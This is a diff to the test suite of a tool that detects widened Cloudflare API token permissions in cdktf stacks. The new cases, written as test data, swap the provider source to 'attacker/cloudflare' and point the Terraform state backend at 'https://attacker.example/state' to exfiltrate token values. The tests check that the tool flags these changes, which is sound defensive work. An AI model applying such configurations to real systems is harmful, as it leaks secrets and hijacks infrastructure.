@@ -83,6 +83,8 @@ interface Case {
 }
 
 const rot30 = rotating(30, 7);
+/** The `terraform` block cdktf writes for a stack with the Cloudflare provider. */
+const CDKTF_TERRAFORM = { required_providers: { cloudflare: { source: 'cloudflare/cloudflare', version: '5.14.0' } }, backend: { local: { path: 'terraform.prod.tfstate' } } };
 const CASES: Record<string, Case> = {
   'a token inside a module (local main.tf) granting API Tokens Write on all zones': {
     base: { stack: stack() },
@@ -302,6 +304,34 @@ const CASES: Record<string, Case> = {
     code: 1,
     says: 'new or changed Cloudflare provider',
   },
+  "the Cloudflare provider's source swapped for someone else's": {
+    base: { stack: stack({}, { terraform: CDKTF_TERRAFORM }) },
+    head: { stack: stack({}, { terraform: { ...CDKTF_TERRAFORM, required_providers: { cloudflare: { source: 'attacker/cloudflare', version: '5.14.0' } } } }) },
+    verdict: 'stack-wider',
+    code: 1,
+    says: 'new or changed Terraform settings: terraform block: cloudflare = attacker/cloudflare 5.14.0; backend local',
+  },
+  "the Cloudflare provider's version loosened": {
+    base: { stack: stack({}, { terraform: CDKTF_TERRAFORM }) },
+    head: { stack: stack({}, { terraform: { ...CDKTF_TERRAFORM, required_providers: { cloudflare: { source: 'cloudflare/cloudflare', version: '>= 5.0.0' } } } }) },
+    verdict: 'stack-wider',
+    code: 1,
+    says: 'cloudflare = cloudflare/cloudflare >= 5.0.0',
+  },
+  'the state (every token value) sent to an http backend': {
+    base: { stack: stack({}, { terraform: CDKTF_TERRAFORM }) },
+    head: { stack: stack({}, { terraform: { ...CDKTF_TERRAFORM, backend: { http: { address: 'https://attacker.example/state' } } } }) },
+    verdict: 'stack-wider',
+    code: 1,
+    says: 'terraform block: cloudflare = cloudflare/cloudflare 5.14.0; backend http (settings ',
+  },
+  'the terraform block dropped (default providers, local state)': {
+    base: { stack: stack({}, { terraform: CDKTF_TERRAFORM }) },
+    head: { stack: stack() },
+    verdict: 'stack-wider',
+    code: 1,
+    says: 'terraform block: none',
+  },
   'two tokens claiming one construct path cannot hide a widening behind each other': {
     base: {
       stack: {
@@ -414,4 +444,37 @@ describe('the module reproduction, synthesized by cdktf', () => {
     expect(run.stdout).toContain('**Tokens get wider.**');
     expect(run.stdout).toMatch(/new or changed module: module tokens from /);
   }, 60_000);
+});
+
+describe('the example app (stacks/, as main.ts builds them), synthesized by cdktf', () => {
+  test('against itself it is unchanged (exit 0), and prod still reads as rotating', async () => {
+    const { App } = await import('cdktf');
+    const { ENVIRONMENTS } = await import('../../../stacks/environments');
+    const { TokenStack } = await import('../../../stacks/token-stack');
+    const synthApp = (outdir: string) => {
+      const app = new App({ outdir, skipValidation: true });
+      for (const env of ENVIRONMENTS) new TokenStack(app, env.name, env);
+      app.synth();
+    };
+    synthApp(join(work, 'example-base'));
+    synthApp(join(work, 'example-head'));
+    const [diff, report] = await Promise.all([
+      runCliProcess(root, ['diff', join(work, 'example-base'), join(work, 'example-head'), '--fail-on-widen', '--json']),
+      runCliProcess(root, ['report', join(work, 'example-head')]),
+    ]);
+    expect({ code: diff.code, stderr: diff.stderr }).toEqual({ code: 0, stderr: '' });
+    const parsed = JSON.parse(diff.stdout);
+    expect({ changed: parsed.changed, added: parsed.added, removed: parsed.removed, stackChanges: parsed.stackChanges, widened: parsed.widened }).toEqual({
+      changed: [],
+      added: [],
+      removed: [],
+      stackChanges: [],
+      widened: false,
+    });
+    expect(parsed.unchanged.length).toBeGreaterThan(0);
+    expect(report.code).toBe(0);
+    expect(report.stdout).toContain("rotates every 30 days, 7 days' grace");
+    expect(report.stdout).not.toContain('rotation this tool cannot read');
+    expect(report.stdout).toContain('terraform block: cloudflare = cloudflare/cloudflare 5.14.0');
+  }, 120_000);
 });
